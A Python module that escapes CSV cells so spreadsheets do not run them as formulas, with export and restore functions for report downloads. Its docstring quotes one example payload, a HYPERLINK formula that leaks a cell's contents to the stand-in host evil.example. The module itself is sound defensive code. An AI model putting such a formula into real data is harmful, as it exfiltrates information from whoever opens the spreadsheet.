"""CSV cells a spreadsheet will not run as formulas (OWASP's CSV injection advice).

A cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage return is read by Excel,
LibreOffice and Google Sheets as a formula, so a student's display name such as
`=HYPERLINK("http://evil.example/?leak="&B2,"Click")` would run on the instructor's machine.
Such a cell is written with a leading apostrophe, which spreadsheets show as text. A number
such as `-40` is left alone: it is no formula, and a quote would turn it into text.

A cell that already begins with an apostrophe gets one more, so `restore` can remove exactly
what `neutralise` added: restore(neutralise(x)) == x for every string x, which keeps the
question export → import round trip the identity.
"""

from __future__ import annotations

import csv
import io
import re

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"
_NUMBER = re.compile(r"[+-]?(?:\d+(?:[.,]\d*)?|[.,]\d+)(?:[eE][+-]?\d+)?")


def _needs_quote(cell: str) -> bool:
    if not cell or not cell.startswith((*FORMULA_STARTS, QUOTE)):
        return False
    return not _NUMBER.fullmatch(cell)


def neutralise(cell):
    """The cell as it may be written to a CSV file; non-strings (numbers, None) unchanged."""
    if isinstance(cell, str) and _needs_quote(cell):
        return QUOTE + cell
    return cell


def restore(cell: str) -> str:
    """What `neutralise` was given: a hand-written `'text` (no formula behind it) is kept."""
    if cell.startswith(QUOTE) and _needs_quote(cell[1:]):
        return cell[1:]
    return cell


def to_csv(header: list[str], rows) -> bytes:
    """A whole report as UTF-8 CSV, every cell neutralised (what every report download uses)."""
    out = io.StringIO(newline="")
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow([neutralise(h) for h in header])
    for row in rows:
        writer.writerow([neutralise(c) for c in row])
    return out.getvalue().encode("utf-8")
